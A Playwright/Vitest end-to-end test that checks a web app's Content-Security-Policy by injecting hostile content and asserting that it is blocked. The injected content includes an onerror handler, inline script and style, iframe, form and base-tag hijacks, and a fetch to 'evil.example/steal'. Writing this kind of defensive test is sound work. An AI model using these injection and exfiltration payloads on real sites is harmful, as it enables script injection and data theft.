import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser, openPage } from '../support/browser.ts';
import { startStack, type Stack } from '../support/stack.ts';
import { until } from '../support/until.ts';
import { signIn } from './people.ts';

let stack: Stack;
let browser: Browser;
beforeAll(async () => {
  [stack, browser] = await Promise.all([startStack(), launchBrowser()]);
});
afterAll(async () => {
  await browser.close();
  await stack.close();
});

describe('[A7] the page’s policy in a real browser', () => {
  test('the pages work without a violation; what somebody smuggles in does not run, load or leave', async () => {
    const { page, problems } = await openPage(browser);
    await signIn(page, stack.url, 'doctor');
    await page.getByTestId('call-next').waitFor();
    for (const path of ['/account', '/']) {
      await page.goto(`${stack.url}${path}`);
      await page.locator('h1, h2').first().waitFor();
    }
    expect(problems).toEqual([]);
    const policy = (await page.request.get(stack.url)).headers()['content-security-policy'] ?? '';
    // Known media nodes only, not any address.
    expect(policy).toMatch(/connect-src 'self' http:\/\/localhost:\d+ ws:\/\/localhost:\d+(;|$)/);

    const smuggled = await page.evaluate(async () => {
      const put = (html: string): void => {
        const holder = document.createElement('div');
        holder.innerHTML = html;
        document.body.append(holder);
      };
      put('<img src="x" onerror="window.smuggled = 1">');
      put('<p id="smuggled-style" style="position: fixed">x</p>');
      put('<iframe src="https://evil.example/"></iframe>');
      put('<form id="smuggled-form" action="https://evil.example/"><input name="a"></form>');
      const script = document.createElement('script');
      script.textContent = 'window.smuggled = 2';
      document.body.append(script);
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
      const sent = await fetch('https://evil.example/steal').then(
        () => 'sent',
        () => 'stopped',
      );
      const form = document.querySelector('#smuggled-form');
      if (form instanceof HTMLFormElement) form.submit();
      const paragraph = document.querySelector('#smuggled-style');
      return {
        sent,
        ran: 'smuggled' in globalThis,
        shown: getComputedStyle(document.body).display,
        position: paragraph ? getComputedStyle(paragraph).position : '',
        base: document.baseURI,
      };
    });
    expect(smuggled).toMatchObject({ sent: 'stopped', ran: false, shown: 'block', position: 'static' });
    expect(smuggled.base).toContain(stack.url);
    for (const directive of [
      'script-src-attr',
      'style-src-attr',
      'frame-src',
      'script-src-elem',
      'style-src-elem',
      'base-uri',
      'connect-src',
      'form-action',
    ]) {
      await until(directive, () => problems.some((one) => one.includes(`policy: ${directive} `)));
    }
    expect(await page.evaluate(() => 'smuggled' in globalThis)).toBe(false);
    await page.context().close();
  });
});
